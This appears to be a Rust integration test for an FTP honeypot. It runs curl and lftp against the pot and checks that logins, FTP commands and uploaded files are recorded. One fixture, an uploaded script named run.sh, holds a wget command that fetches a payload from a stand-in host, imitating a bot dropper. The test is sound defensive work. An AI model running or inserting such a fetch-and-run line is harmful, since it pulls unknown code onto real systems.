//! FTP with real clients: curl (passive EPSV and PASV, active EPRT/PORT, upload, download)
//! and lftp, and the credentials, commands and uploads left in the events.

use apiary_event::{AuthMethod, Event, Kind, Transport};
use apiary_pot::{Limits, ServiceConfig};
use sha2::Digest as _;

use crate::ssh::{have, run};
use crate::support::{TestPot, service, start};

fn ftp_service(accept: &str) -> ServiceConfig {
    let mut s = service("FTP", "ftp", &["tcp:0"]);
    let opts = format!(
        r#"
        accept = "{accept}"
        credentials = ["bob:secret"]
        fail_delay = "10ms"
        "#
    );
    s.options = toml::from_str(&opts).unwrap();
    s
}

fn of<'a>(events: &'a [Event], kind: &str) -> Vec<&'a Event> {
    events.iter().filter(|e| e.kind.as_str() == kind).collect()
}

fn pot(accept: &str) -> (TestPot, u16) {
    let pot = start(&[ftp_service(accept)], Limits::default(), "127.0.0.1");
    let port = pot.handle.addr("FTP", Transport::Tcp).unwrap().port();
    (pot, port)
}

fn args(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| s.to_string()).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn curl_lists_downloads_and_uploads_in_passive_and_active_mode() {
    if !have(&["curl"]) {
        return;
    }
    let (pot, port) = pot("list");
    let base = format!("ftp://bob:secret@127.0.0.1:{port}");
    // EPSV (curl's default), then PASV, then active mode (EPRT, falling back to PORT).
    let epsv = run(args(&["curl", "-sS", &format!("{base}/pub/")]), None).await;
    let text = String::from_utf8_lossy(&epsv.stdout);
    assert!(epsv.status.success(), "{epsv:?}");
    assert!(text.contains("drwxr-xr-x    2 0        0            4096 "), "{text}");
    // curl turns the listing's CRLF into LF (ASCII mode).
    let names: Vec<&str> = text.lines().filter_map(|l| l.trim_end().rsplit(' ').next()).collect();
    assert_eq!(names, ["README", "backup"], "{text}");
    let pasv =
        run(args(&["curl", "-sS", "--disable-epsv", &format!("{base}/pub/README")]), None).await;
    assert!(pasv.status.success(), "{pasv:?}");
    assert!(String::from_utf8_lossy(&pasv.stdout).starts_with("Welcome to the FTP archive."));
    let active =
        run(args(&["curl", "-sS", "--ftp-port", "127.0.0.1", "-l", &format!("{base}/")]), None)
            .await;
    assert!(active.status.success(), "{active:?}");
    let names: Vec<String> =
        String::from_utf8_lossy(&active.stdout).lines().map(|l| l.trim_end().to_owned()).collect();
    assert_eq!(names, ["pub", "upload", "www"]);
    let active_port = run(
        args(&[
            "curl",
            "-sS",
            "--ftp-port",
            "127.0.0.1",
            "--disable-eprt",
            &format!("{base}/www/"),
        ]),
        None,
    )
    .await;
    assert!(String::from_utf8_lossy(&active_port.stdout).trim_end().ends_with(" index.html"));

    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("x86_64.bot");
    let body: Vec<u8> = (0..200_000u32).map(|i| (i % 251) as u8).collect();
    std::fs::write(&file, &body).unwrap();
    let up =
        run(args(&["curl", "-sS", "-T", file.to_str().unwrap(), &format!("{base}/upload/")]), None)
            .await;
    assert!(up.status.success(), "{up:?}");
    // A wrong password: curl's "access denied" exit code.
    let bad = run(args(&["curl", "-sS", &format!("ftp://bob:nope@127.0.0.1:{port}/")]), None).await;
    assert_eq!(bad.status.code(), Some(67), "{bad:?}");

    pot.wait_for(&Kind::SESSION_CLOSE, 6).await;
    let events = pot.finish().await;
    let auths: Vec<_> =
        of(&events, "auth.attempt").iter().map(|e| e.auth.clone().unwrap()).collect();
    assert_eq!(auths.len(), 6);
    assert!(auths.iter().all(|a| a.method == AuthMethod::Password));
    assert_eq!(
        (auths[0].username.as_deref(), auths[0].password.as_deref(), auths[0].success),
        (Some("bob"), Some("secret"), true)
    );
    assert_eq!((auths[5].password.as_deref(), auths[5].success), (Some("nope"), false));
    let cmds: Vec<String> = of(&events, "command.input")
        .iter()
        .map(|e| e.command.as_ref().unwrap().input.clone())
        .collect();
    for want in ["EPSV", "PASV", "EPRT |1|127.0.0.1|", "PORT 127,0,0,1,", "STOR x86_64.bot"] {
        assert!(cmds.iter().any(|c| c.starts_with(want)), "{want} not in {cmds:?}");
    }
    assert!(!cmds.iter().any(|c| c.contains("secret")), "passwords stay out of commands");
    let ups = of(&events, "file.upload");
    assert_eq!(ups.len(), 1);
    let d = ups[0].download.as_ref().unwrap();
    assert_eq!(d.url, "/upload/x86_64.bot");
    assert_eq!(d.size, Some(body.len() as u64));
    let want: String = sha2::Sha256::digest(&body).iter().map(|b| format!("{b:02x}")).collect();
    assert_eq!(d.sha256.as_deref(), Some(want.as_str()));
    assert_eq!(&ups[0].payload.as_ref().unwrap().data[..], &body[..64 * 1024]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lftp_session_logs_in_lists_puts_and_gets() {
    if !have(&["lftp"]) {
        return;
    }
    let (pot, port) = pot("any");
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("run.sh");
    std::fs::write(&file, "#!/bin/sh\nwget http://198.51.100.7/x\n").unwrap();
    let script = format!(
        "set net:max-retries 1; set net:timeout 10; cd pub; ls; cd /upload; put {} -o run.sh; ls; get run.sh -o {}/back.sh; bye",
        file.display(),
        dir.path().display()
    );
    let out = run(
        args(&[
            "lftp",
            "-u",
            "admin,admin123",
            "-p",
            &port.to_string(),
            "-e",
            &script,
            "127.0.0.1",
        ]),
        None,
    )
    .await;
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{out:?}");
    assert!(text.contains(" README\n") || text.contains(" README\r\n"), "{text}");
    assert!(text.contains(" run.sh"), "{text}");
    assert_eq!(
        std::fs::read(dir.path().join("back.sh")).unwrap(),
        std::fs::read(&file).unwrap(),
        "the uploaded file reads back"
    );
    pot.wait_for(&Kind::SESSION_CLOSE, 1).await;
    let events = pot.finish().await;
    let a = of(&events, "auth.attempt")[0].auth.clone().unwrap();
    assert_eq!((a.username.as_deref(), a.password.as_deref()), (Some("admin"), Some("admin123")));
    let ups = of(&events, "file.upload");
    assert_eq!(ups.len(), 1);
    assert_eq!(ups[0].download.as_ref().unwrap().url, "/upload/run.sh");
}
